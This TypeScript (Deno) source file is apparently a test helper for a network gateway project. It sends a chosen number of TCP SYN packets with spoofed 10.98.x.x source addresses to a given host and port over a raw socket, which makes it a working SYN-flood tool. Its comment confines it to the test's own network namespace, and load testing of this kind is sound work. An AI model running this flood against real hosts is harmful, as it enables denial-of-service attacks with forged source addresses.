/**
 * Opens connections in the name of others, who never answer: `syn_flood.ts HOST PORT COUNT` sends so many SYNs from
 * 10.98.0.0/16 through a raw socket. For a namespace of the test's own: strangers of the real network are not there.
 */
import { parseIp } from "../../gate/address.ts";
import { AF_INET, SOCK_CLOEXEC } from "../../gate/engine/layout.ts";
import { ipSocketAddress } from "../../gate/engine/sockaddr.ts";
import { libc } from "../../gate/engine/sys.ts";

const SOCK_RAW = 3, IPPROTO_RAW = 255;
const IP_SIZE = 20, TCP_SIZE = 20, TCP = 6, SYN = 2;

/** RFC 1071, over an even number of bytes. */
function checksum(...parts: readonly DataView[]): number {
  let sum = 0;
  for (const part of parts) for (let at = 0; at < part.byteLength; at += 2) sum += part.getUint16(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** RFC 791 and 9293: a SYN of stranger number `number`. The kernel fills in the header's own checksum. */
function syn(number: number, host: string, port: number): Uint8Array {
  const bytes = new Uint8Array(IP_SIZE + TCP_SIZE);
  const ip = new DataView(bytes.buffer, 0, IP_SIZE), tcp = new DataView(bytes.buffer, IP_SIZE);
  ip.setUint8(0, 0x45);
  ip.setUint16(2, bytes.length);
  ip.setUint8(8, 64);
  ip.setUint8(9, TCP);
  bytes.set([10, 98, (number >> 8) & 0xff, number & 0xff], 12);
  bytes.set(parseIp(host)!.subarray(12), 16);
  tcp.setUint16(0, 1024 + (number % 60_000));
  tcp.setUint16(2, port);
  tcp.setUint32(4, Math.imul(number, 0x9e3779b1) >>> 0);
  tcp.setUint16(12, (TCP_SIZE / 4) << 12 | SYN);
  tcp.setUint16(14, 0xffff);
  const pseudo = new DataView(new ArrayBuffer(12));
  new Uint8Array(pseudo.buffer).set(bytes.subarray(12, 20));
  pseudo.setUint16(8, TCP);
  pseudo.setUint16(10, TCP_SIZE);
  tcp.setUint16(16, checksum(pseudo, tcp));
  return bytes;
}

const [host, port, count] = Deno.args;
const fd = libc.socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
if (fd < 0 || libc.connect(fd, ipSocketAddress(parseIp(host)!, 0).bytes, 16) < 0) {
  throw new Error("Cannot send in the name of others: the system refuses a raw socket");
}
let sent = 0;
for (let number = 0; number < Number(count); number++) {
  const packet = syn(number, host, Number(port));
  if (libc.send(fd, packet, packet.length, 0) === packet.length) sent++;
}
libc.close(fd);
console.log(sent);
